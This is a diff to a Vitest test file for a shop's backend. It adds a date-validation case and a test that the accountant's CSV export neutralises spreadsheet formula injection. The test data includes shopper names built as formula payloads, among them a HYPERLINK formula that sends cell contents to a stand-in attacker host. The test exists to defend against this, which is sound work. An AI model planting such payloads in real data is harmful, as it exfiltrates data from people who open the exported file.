@@ -3,11 +3,12 @@ import { MongoClient } from 'mongodb';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { call, setupTestDatabase } from '../setup/test-db';
 import { makeCatalogue, makeProduct, defaultProducts } from '../fixtures/catalogue';
-import { deliveryAddress, makeShopper } from '../fixtures/shoppers';
+import { billingAddress, checkoutRequest, deliveryAddress, makeShopper } from '../fixtures/shoppers';
 import { importCatalogue } from '../../netlify/lib/services/catalogue-import.service';
 import { discountsRepository } from '../../netlify/lib/repositories/discounts.repository';
 import { discountRules } from '../fixtures/discounts';
-import { makeAdmin, placeCodOrder } from '../fixtures/placed-orders';
+import { codOrderBody, makeAdmin, placeCodOrder } from '../fixtures/placed-orders';
+import orderCheckout from '../../netlify/functions/order_checkout';
 import invoice from '../../netlify/functions/invoice';
 import adminAccounts from '../../netlify/functions/admin_accounts';
 
@@ -102,12 +103,41 @@ describe('the accountant’s export', () => {
     for (const [bad, message] of [
       ['?from=2026-11-30&to=2026-11-01', 'From must be on or before To'],
       ['?from=2026-02-30&to=2026-03-01', 'From must be a real date'],
+      ['?from=0000-01-01&to=0000-01-02', 'From must be in the years 2000 to 2099'],
       ['?from=2024-01-01&to=2026-01-01', 'An export covers at most 366 days'],
       ['?from=yesterday&to=2026-01-01', 'From must be a date (YYYY-MM-DD)'],
     ]) {
       const r = await call(adminAccounts, `/api/admin/accounts${bad}`, bearer(admin.token));
       expect(r.status, bad).toBe(400);
       expect(r.body.message).toContain(message);
+    }
+  });
+});
+
+describe('formulas in the accountant’s export (issue #33: attacks that must fail)', () => {
+  it('neutralises every text cell a spreadsheet would run as a formula, and leaves the amounts numbers', async () => {
+    const shopper = await makeShopper();
+    const names: [string, string][] = [
+      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'Shah'],
+      ['+91', 'Rao'],
+      ['-2+3', 'Iyer'],
+      ['@SUM(1+1)', 'Das'],
+    ];
+    const ids: string[] = [];
+    for (const [firstName, lastName] of names) {
+      const body = { ...codOrderBody([{ slug: 'ledger-cuff', price: 1299 }]), billingInfo: { ...billingAddress, firstName, lastName } };
+      const placed = await call(orderCheckout, '/api/orderCheck_out', checkoutRequest(body, shopper.token));
+      expect(placed.status).toBe(201);
+      ids.push(placed.body.order._id as string);
+      expect((await call(invoice, `/api/invoice/${placed.body.order._id}`, bearer(shopper.token))).status).toBe(200);
+    }
+    const r = await fetchCsv(`?from=${today}&to=${today}`);
+    expect(r.status).toBe(200);
+    const rows = parse(r.text, { columns: true }) as Record<string, string>[];
+    const customers = ids.map((id) => rows.find((row) => row['Order number'] === `HRM-${id.slice(-6).toUpperCase()}`)!['Customer']);
+    expect(customers).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"Click") Shah`, "'+91 Rao", "'-2+3 Iyer", "'@SUM(1+1) Das"]);
+    for (const row of rows) {
+      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
     }
   });
 });
